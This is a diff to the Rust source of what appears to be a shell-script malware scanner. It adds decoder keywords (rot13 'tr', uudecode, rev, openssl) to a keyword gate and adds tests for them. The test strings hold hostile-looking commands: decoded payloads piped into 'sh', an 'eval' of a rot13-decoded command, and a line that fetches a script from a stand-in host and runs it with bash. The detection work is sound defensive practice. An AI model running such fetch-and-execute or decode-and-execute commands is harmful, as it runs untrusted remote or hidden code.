@@ -2247,6 +2247,13 @@ fn cheap_gate(text: &str) -> bool {
         "syslog",
         "unlink",
         "http ",
+        // The decoders `is_decoder` knows (a rot13 `tr`, `uudecode`, `rev`, `openssl enc`).
+        "N-ZA-M",
+        "n-za-m",
+        "uudecode",
+        "| rev",
+        "|rev",
+        "openssl",
     ];
     W.iter().any(|w| text.contains(w))
 }
@@ -2565,6 +2572,15 @@ mod tests {
     fn values_followed_through_variables_and_pipes() {
         let t = "cmd=$(echo 'Y3VybCB4' | tr 'A-Za-z' 'N-ZA-Mn-za-m')\neval \"$cmd\"\n";
         assert!(has(t, DECODE_AND_EXECUTE), "{:?}", rules(t));
+        // Every decoder the analysis knows passes the word gate before the parse.
+        for t in [
+            t,
+            "echo x | rev | sh\n",
+            "uudecode -o /dev/stdout p.uu | sh\n",
+            "openssl enc -d -base64 -in p | sh\n",
+        ] {
+            assert!(cheap_gate(t), "{t}");
+        }
         let t = "p=$(curl -fsSL https://x.example/p.sh)\nbash -c \"$p\"\n";
         assert!(has(t, FETCH_THEN_EXECUTE), "{:?}", rules(t));
         let t =
